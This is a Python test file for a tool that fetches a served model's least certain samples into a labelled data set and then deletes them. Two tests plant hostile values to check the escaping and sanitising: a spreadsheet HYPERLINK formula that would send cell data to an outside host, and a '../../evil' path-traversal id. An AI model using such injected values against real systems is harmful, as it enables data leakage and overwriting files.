"""Uncertain requests of a target: fetched into a data set, joined with labels, deleted."""

from __future__ import annotations

import csv
import json
import subprocess
from collections.abc import Sequence
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest

from studio.api import TensorType, UsageError, Value
from studio.datasets import open_dataset
from studio.monitoring.endpoint.labels import read_labels
from studio.monitoring.endpoint.uncertain_samples import fetch_samples, forget_samples
from studio.runtime.release.store.layout import Layout
from studio.runtime.release.trial.requests import agreement_of, allow, compare, sampling_of
from studio.runtime.serve.outputs.recent_answers import Answers
from studio.runtime.serve.quality.uncertain_samples import SampleStore
from studio.runtime.shared.errors import ReleaseError
from studio.runtime.shared.sampling_config import FILE, FOLDER
from studio.runtime.shared.trial_request import FILE as COMPARED
from studio.runtime.shared.trial_request import TrialRequest, wish_for


class Shell:
    """A channel to this computer."""

    def run(self, argv: Sequence[str], **more: Any) -> Any:
        done = subprocess.run(list(argv), capture_output=True, text=True, check=True)
        return SimpleNamespace(text=done.stdout)

    def get(self, source: str, target: Path) -> None:
        target.write_bytes(Path(source).read_bytes())


def kept(root: Path, **doubts: float) -> None:
    """Samples on a target, as its server keeps them."""
    store = SampleStore(root / "run" / FOLDER, 100, 1 << 20)
    for number, (name, doubt) in enumerate(doubts.items()):
        facts = json.dumps({"id": f"cam/{name}", "doubt": doubt, "at": 1.5, "version": "3"})
        store.add(
            doubt,
            name,
            {
                "in.x": np.full((1, 4), number, np.float32),
                "out.y": np.float32([[0.1, 0.9]]),
                "facts": np.frombuffer(facts.encode(), np.uint8),
            },
        )


def test_fetched_and_deleted(tmp_path: Path) -> None:
    kept(tmp_path, a=0.5, b=0.9)
    found = fetch_samples(Shell(), str(tmp_path), tmp_path / "out")  # type: ignore[arg-type]
    assert (found.fetched, found.damaged) == (2, 0)
    text = (tmp_path / "out" / "answers.csv").read_text()
    rows = list(csv.DictReader(text.splitlines()))
    assert [(row["id"], row["answer"], row["version"]) for row in rows] == [
        ("cam/b", "1", "3"),  # the least certain first
        ("cam/a", "1", "3"),
    ]
    assert forget_samples(Shell(), str(tmp_path)) == 2  # type: ignore[arg-type]
    assert not list((tmp_path / "run" / FOLDER).iterdir())
    again = fetch_samples(Shell(), str(tmp_path), tmp_path / "out")  # type: ignore[arg-type]
    assert again.fetched == 0


def test_an_id_is_no_formula_in_the_list_of_answers(tmp_path: Path) -> None:
    store = SampleStore(tmp_path / "run" / FOLDER, 100, 1 << 20)
    formula = '=HYPERLINK("http://example.org/"&A1)'
    facts = json.dumps({"id": formula, "doubt": 0.5, "at": 1.5, "version": "@3"})
    store.add(0.5, "a", {"in.x": np.zeros((1, 4), np.float32), "facts": in_bytes(facts)})
    fetch_samples(Shell(), str(tmp_path), tmp_path / "out")  # type: ignore[arg-type]
    (row,) = csv.DictReader((tmp_path / "out" / "answers.csv").read_text().splitlines())
    assert (row["id"], row["version"]) == (f"'{formula}", "'@3")


def in_bytes(text: str) -> np.ndarray:
    return np.frombuffer(text.encode(), np.uint8)


def test_a_target_that_keeps_nothing(tmp_path: Path) -> None:
    found = fetch_samples(Shell(), str(tmp_path), tmp_path / "out")  # type: ignore[arg-type]
    assert found.fetched == 0
    assert forget_samples(Shell(), str(tmp_path)) == 0  # type: ignore[arg-type]


def test_with_labels_it_is_a_data_set_and_the_ids_join_up(tmp_path: Path) -> None:
    kept(tmp_path, a=0.5, b=0.9)
    out = tmp_path / "out"
    fetch_samples(Shell(), str(tmp_path), out)  # type: ignore[arg-type]
    (out / "labels.csv").write_text("cam%2Fa.npz,1\ncam%2Fb.npz,0\n")
    data = open_dataset(out, [Value("x", TensorType("float32", ("n", 4)))])
    assert [(one.label, float(one.feeds["x"][0, 0])) for one in data] == [(1, 0.0), (0, 1.0)]
    labels = read_labels(out / "labels.csv")
    assert (dict(labels), labels.chosen) == ({"cam/a": "1", "cam/b": "0"}, True)
    answers = Answers(())
    for name in labels:
        answers.store(name, [np.float32([[0.1, 0.9]])])
    answers.judge(labels, labels.chosen)
    told = answers.status()
    # The least certain are no fair sample of all.
    assert (told["accuracy"], told["matched"]) == (None, 0)
    assert (told["uncertain"], told["uncertain_right"]) == (2, 1)


def test_labels_by_ids_are_of_any_requests(tmp_path: Path) -> None:
    (tmp_path / "labels.csv").write_text("id,label\ncam/a,1\ncam%2Fb.npz,0\n")
    assert not read_labels(tmp_path / "labels.csv").chosen


def test_a_folder_of_something_else_is_left_alone(tmp_path: Path) -> None:
    kept(tmp_path, a=0.5)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "thesis.tex").write_text("mine")
    with pytest.raises(UsageError, match="is not empty"):
        fetch_samples(Shell(), str(tmp_path), tmp_path / "out")  # type: ignore[arg-type]


def test_a_board_that_gives_other_things(tmp_path: Path) -> None:
    """A pickle, garbage, a sample whose id climbs, names that are none of ours."""
    kept(tmp_path, a=0.5)
    folder = tmp_path / "run" / FOLDER
    (folder / f"000000-00001-{'0' * 16}.npz").write_bytes(b"no archive")
    np.savez(folder / f"000000-00002-{'0' * 16}.npz", facts=np.array([{}], object))
    facts = np.frombuffer(json.dumps({"id": "../../evil", "doubt": 1}).encode(), np.uint8)
    np.savez(folder / f"000000-00003-{'0' * 16}.npz", facts=facts, **{"in.x": np.ones(3)})
    (folder / "..evil.npz").write_bytes(b"")
    found = fetch_samples(Shell(), str(tmp_path), tmp_path / "out")  # type: ignore[arg-type]
    assert (found.fetched, found.damaged) == (2, 2)
    names = {path.name for path in (tmp_path / "out").iterdir()}
    assert names == {"answers.csv", "cam%2Fa.npz", "..%2F..%2Fevil.npz"}
    assert not (tmp_path.parent / "evil.npz").exists()


def test_the_note_of_a_deploy(tmp_path: Path) -> None:
    layout = Layout(tmp_path)
    layout.run.mkdir()
    allow(layout, "a" * 64, sampling_of({"sampling": {"most": 5, "bytes": 1000}}))
    written = json.loads((layout.run / FILE).read_text())
    assert written == {"of": "a" * 64, "most": 5, "room": 1000}
    allow(layout, "a" * 64, sampling_of({}))
    assert not (layout.run / FILE).exists()
    with pytest.raises(ReleaseError, match="At most"):
        sampling_of({"sampling": {"most": -1, "bytes": 1}})
    with pytest.raises(ReleaseError, match="number and bytes"):
        sampling_of({"sampling": {"most": "many"}})


def test_comparing_goes_on_where_a_deploy_said_so(tmp_path: Path) -> None:
    new, old = "a" * 64, "b" * 64
    layout = Layout(tmp_path)
    layout.run.mkdir()
    compare(layout, new, old, agreement_of({"agreement": 0.02}))
    found = wish_for(tmp_path / "releases" / new / "model.onnx", new)
    assert found is not None
    assert found[0] == TrialRequest(new, old, 1.0, 0.02, False)
    compare(layout, new, old, agreement_of({}))
    assert not (layout.run / COMPARED).exists()
    compare(layout, new, "", 0.02)  # the first release has none before it
    assert not (layout.run / COMPARED).exists()
    for share in (-1, 0.9, "much", float("nan")):
        with pytest.raises(ReleaseError, match="50% of one core"):
            agreement_of({"agreement": share})
